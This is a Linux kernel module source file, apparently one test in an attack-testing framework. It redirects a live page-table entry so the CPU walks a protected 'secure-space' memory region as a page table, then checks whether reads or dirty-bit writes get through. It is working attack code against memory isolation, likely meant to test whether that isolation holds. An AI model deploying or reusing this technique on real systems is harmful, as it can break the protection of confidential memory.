/* SPDX-License-Identifier: MIT OR GPL-2.0-only */
/*
 * Makes a page of secure memory a page table: the CPU itself reads it, and would write accessed and dirty
 * bits to it.
 */
#include "attack.h"

#include <linux/io.h>
#include <linux/pgtable.h>
#include <linux/vmalloc.h>
#include <asm/processor-flags.h>
#include <asm/special_insns.h>
#include <asm/tlbflush.h>

#define ENTRIES 512
#define INDEX_BITS 9
#define PMD_LEVEL 2

static const u64 pattern = 0x5ec90d00a11c0de5ull;
static u64 seen;
static u64 dirtied;

/* The entry of level 2 (the one that names a table of 4 KiB pages) for address in the tables in use. */
static u64 *entry_of(unsigned long address)
{
	int level = attack_read_cr4() & X86_CR4_LA57 ? 5 : 4;
	u64 *table = __va(__read_cr3() & PTE_PFN_MASK);

	for (;; level--) {
		u64 *entry =
			&table[address >> (PAGE_SHIFT + INDEX_BITS * (level - 1)) & (ENTRIES - 1)];

		if (level == PMD_LEVEL)
			return entry;
		table = __va(*entry & PTE_PFN_MASK);
	}
}

static void fill(void *table, u64 target)
{
	for (unsigned int i = 0; i < ENTRIES; i++) {
		unsigned int fault = 1;

		asm volatile(ATTACK_TRY("movq %[value], (%[to])")
			     : [fault] "+r"(fault)
			     : [value] "r"(target | __PAGE_KERNEL_NOENC), [to] "r"((u64 *)table + i)
			     : "memory", "cc");
		if (fault)
			return;
	}
}

static void walk(u64 *entry, unsigned long address, u64 table)
{
	u64 before = *entry;
	unsigned int fault = 1;
	unsigned long flags;

	local_irq_save(flags);
	WRITE_ONCE(*entry, table | _KERNPG_TABLE_NOENC);
	__flush_tlb_all();
	asm volatile(ATTACK_TRY("movq (%[from]), %[value]")
		     : [fault] "+r"(fault), [value] "+r"(seen)
		     : [from] "r"(address)
		     : "memory", "cc");
	fault = 1;
	asm volatile(ATTACK_TRY("movq %[value], 8(%[to])")
		     : [fault] "+r"(fault)
		     : [to] "r"(address), [value] "r"(pattern)
		     : "memory", "cc");
	WRITE_ONCE(*entry, before);
	__flush_tlb_all();
	local_irq_restore(flags);
}

static int attempt(void)
{
	u64 *target = (u64 *)get_zeroed_page(GFP_KERNEL);
	void *area = vmalloc(2 * PMD_SIZE);
	unsigned long address = ALIGN((unsigned long)area, PMD_SIZE);
	u64 base, size;
	void *table;
	int result = attack_secure_space(&base, &size);

	if (result)
		return result;
	table = attack_map(base, PAGE_KERNEL);
	if (!target || !area || !table)
		return -ENOMEM;
	*target = pattern;
	fill(table, virt_to_phys(target));
	walk(entry_of(address), address, base);
	dirtied = target[1];
	vfree(area);
	return 0;
}

static bool effect(void)
{
	attack_detail("read through it 0x%llx, written 0x%llx", seen, dirtied);
	return seen == pattern || dirtied;
}

static const struct attack secure_walk = {"secure_walk", "secure-space", NULL,
					  attempt,	 effect,	 NULL};
ATTACK_MODULE(secure_walk);
